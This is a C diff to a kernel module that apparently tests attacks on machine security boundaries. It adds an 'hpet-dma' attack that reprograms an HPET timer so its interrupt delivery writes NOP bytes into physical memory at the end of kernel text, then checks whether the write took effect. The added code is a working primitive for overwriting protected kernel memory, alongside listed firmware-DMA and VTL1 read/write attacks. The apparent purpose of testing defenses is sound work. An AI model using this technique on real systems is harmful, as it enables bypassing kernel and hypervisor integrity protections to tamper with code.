@@ -71,6 +71,46 @@ static void firmware_undo(const struct attack *attack)
 		write_by_vmap(firmware_at + i, 0xcc);
 }
 
+#define HPET_PAGE 0xfed00000
+#define HPET_CONFIG 0x10
+#define HPET_RUNS 1
+#define HPET_COUNTER 0xf0
+#define HPET_TIMER 0x140 /* the last of three, which the kernel has no use for */
+#define HPET_COMPARE (HPET_TIMER + 8)
+#define HPET_ROUTE (HPET_TIMER + 16)
+#define HPET_TO_ADDRESS (1 << 14)
+#define HPET_INTERRUPTS (1 << 2)
+#define HPET_SOON 100000
+
+/* A timer of the HPET writes four bytes in place of an interrupt. */
+static void hpet_write(void __iomem *hpet, u32 to, u32 value)
+{
+	u32 config = readl(hpet + HPET_CONFIG), timer = readl(hpet + HPET_TIMER);
+
+	writeq((u64)to << 32 | value, hpet + HPET_ROUTE);
+	writel(HPET_TO_ADDRESS | HPET_INTERRUPTS, hpet + HPET_TIMER);
+	writel(config | HPET_RUNS, hpet + HPET_CONFIG);
+	writel(readl(hpet + HPET_COUNTER) + HPET_SOON, hpet + HPET_COMPARE);
+	mdelay(50);
+	writel(timer, hpet + HPET_TIMER);
+	writel(config, hpet + HPET_CONFIG);
+}
+
+static int hpet_run(const struct attack *attack, struct result *result)
+{
+	void __iomem *hpet = ioremap(HPET_PAGE, PAGE_SIZE);
+	unsigned long end = target_text();
+
+	if (!end || !hpet)
+		return -ENOENT;
+	firmware_at = end - 3;
+	result->address = physical(firmware_at);
+	hpet_write(hpet, (u32)result->address, 0x90909090);
+	result->effect = *(volatile u8 *)firmware_at == 0x90;
+	iounmap(hpet);
+	return 0;
+}
+
 /* The same over VTL1's memory. */
 static int firmware_vtl1_run(const struct attack *attack, struct result *result)
 {
@@ -178,6 +218,7 @@ static int start_run(const struct attack *attack, struct result *result)
 
 const struct attack machine_attacks[] = {
 	{ "firmware-dma", firmware_run, firmware_undo, NULL },
+	{ "hpet-dma", hpet_run, firmware_undo, NULL },
 	{ "firmware-dma-vtl1", firmware_vtl1_run, NULL, NULL },
 	{ "vtl1-read", read_run, NULL, NULL },
 	{ "vtl1-write", write_run, NULL, NULL },
